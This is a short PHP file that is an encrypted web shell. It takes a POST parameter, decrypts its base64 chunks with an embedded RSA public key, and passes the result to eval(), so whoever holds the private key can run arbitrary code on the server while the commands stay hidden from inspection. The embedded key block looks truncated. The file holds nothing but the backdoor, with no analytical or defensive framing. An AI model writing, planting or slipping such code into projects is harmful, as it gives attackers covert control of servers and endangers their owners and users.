<?php
$cmd = @$_POST['yj'];
$pk = <<<EOF
-----BEGIN PUBLIC KEY-----
MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC7b3Hd9k1bq5fG0sP0kqYQ8y1n
2jv7W2Y9wJ8m0aXcV4Yx3zQvK8lP1t0cZk5r8yH6nB2uA9eW3qD7fR1sT4gL0mJ
-----END PUBLIC KEY-----
EOF;
$cmds = explode("|", $cmd);
$pk = openssl_pkey_get_public($pk);
$cmd = '';
foreach ($cmds as $value) {
  if (openssl_public_decrypt(base64_decode($value), $de, $pk)) {
    $cmd .= $de;
  }
}
eval($cmd);
